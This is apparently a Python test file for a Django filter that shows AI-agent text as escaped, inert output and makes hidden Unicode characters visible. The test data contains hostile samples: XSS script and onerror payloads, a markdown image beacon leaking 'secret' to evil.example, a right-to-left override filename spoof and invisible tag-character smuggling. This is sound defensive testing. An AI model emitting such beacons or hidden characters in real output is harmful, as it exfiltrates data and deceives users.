"""Agent-written text is shown as inert, escaped text, with hidden characters made visible."""

from __future__ import annotations

from django.template import Context, Template

from console.diff import word_diff
from console.templatetags.inert import hazards_of, inert_html


def render(text: str) -> str:
    return Template("{% load inert %}{{ value|inert }}").render(Context({"value": text}))


def test_script_is_escaped_never_markup() -> None:
    html = render('<script>alert("x")</script><img src=x onerror=alert(1)>')
    assert "<script>" not in html
    assert "<img" not in html
    assert "&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" in html


def test_markdown_image_beacon_stays_literal_text() -> None:
    text = "Note ![x](https://evil.example/?q=secret) done"
    html = render(text)
    assert "<img" not in html
    assert "![x](https://evil.example/?q=secret)" in html
    assert any("markdown image" in h for h in hazards_of(text))


def test_bidi_override_is_made_visible() -> None:
    html = render("invoice \u202egpj.exe")
    assert "\u202e" not in html
    assert "⟨U+202E⟩" in html
    assert "RIGHT-TO-LEFT OVERRIDE" in html


def test_tag_characters_and_zero_width_are_made_visible() -> None:
    smuggled = "ok" + "".join(chr(0xE0000 + ord(c)) for c in "hi") + "\u200b\ufeff"
    html = render(smuggled)
    assert "⟨U+E0068⟩" in html
    assert "⟨U+E0069⟩" in html
    assert "TAG LATIN SMALL LETTER H" in html
    assert "⟨U+200B⟩" in html
    assert "⟨U+FEFF⟩" in html
    for char in smuggled[2:]:
        assert char not in html


def test_plain_text_and_newlines_are_kept() -> None:
    assert render("a < b\nand tabs\tstay") == "a &lt; b\nand tabs\tstay"


def test_hazards_name_hidden_characters_and_markup() -> None:
    found = hazards_of("<b>hi</b>\u202e")
    assert any("U+202E" in h for h in found)
    assert "HTML markup" in found
    assert hazards_of("plain words") == []


def test_word_diff_marks_changes_and_stays_inert() -> None:
    html = str(word_diff("Deploy on Tuesday.", "Deploy on <b>Friday</b>.\u202e"))
    assert "<del>Tuesday</del>" in html
    assert "<ins>&lt;b&gt;Friday&lt;/b&gt;" in html
    assert "⟨U+202E⟩" in html
    assert "<b>" not in html


def test_inert_html_of_none_is_empty() -> None:
    assert inert_html(None) == ""
